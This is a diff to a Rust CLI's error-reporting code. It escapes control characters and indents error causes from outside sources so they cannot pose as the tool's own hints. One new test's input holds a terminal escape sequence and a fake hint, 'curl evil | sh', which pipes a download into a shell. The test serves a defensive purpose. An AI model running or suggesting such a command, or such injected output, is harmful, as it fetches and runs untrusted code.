@@ -3,6 +3,12 @@
 
 use std::fmt;
 use std::process::ExitCode;
+use tidegate_model::printable_lines;
+
+/// Columns before the second line of a cause: more than any line of ours begins with.
+const CAUSE_INDENT: usize = 11;
+/// Columns before the second line of a hint.
+const MEND_INDENT: usize = 7;
 
 /// A failure with what to do about it. Travels inside `anyhow::Error`, so that `?` carries it through.
 #[derive(Debug)]
@@ -38,7 +44,8 @@ pub fn report(error: &anyhow::Error) -> (String, ExitCode) {
         error.downcast_ref::<Failure>().or_else(|| error.chain().find_map(|cause| cause.downcast_ref::<Failure>()));
     let mut text = String::new();
     let mut said = String::new();
-    for cause in error.chain().map(ToString::to_string) {
+    // A server elsewhere, an engine or a CA may have chosen the words.
+    for cause in error.chain().map(|cause| printable_lines(&cause.to_string(), CAUSE_INDENT)) {
         // Some errors print their source too; what is already on the screen is not said again.
         if said.contains(&cause) {
             continue;
@@ -51,7 +58,7 @@ pub fn report(error: &anyhow::Error) -> (String, ExitCode) {
     }
     if let Some(failure) = failure.filter(|f| !f.mend.is_empty()) {
         text.push_str("  try: ");
-        text.push_str(&failure.mend.replace('\n', "\n       "));
+        text.push_str(&printable_lines(&failure.mend, MEND_INDENT));
         text.push('\n');
     }
     let code = if failure.is_some_and(|f| f.usage) { 2 } else { 1 };
@@ -76,6 +83,12 @@ mod tests {
         let (text, code) = report(&error);
         assert_eq!(text, "error: can't serve\n  because: no such file\n  try: mend the path\n");
         assert_eq!(format!("{code:?}"), format!("{:?}", ExitCode::from(2)));
+    }
+
+    #[test]
+    fn a_cause_in_the_words_of_others_stays_below_ours() {
+        let error = anyhow::anyhow!("engine said: x\x1b]0;t\x07\n  try: curl evil | sh");
+        assert_eq!(report(&error).0, "error: engine said: x\\x1b]0;t\\x07\n             try: curl evil | sh\n");
     }
 
     #[test]
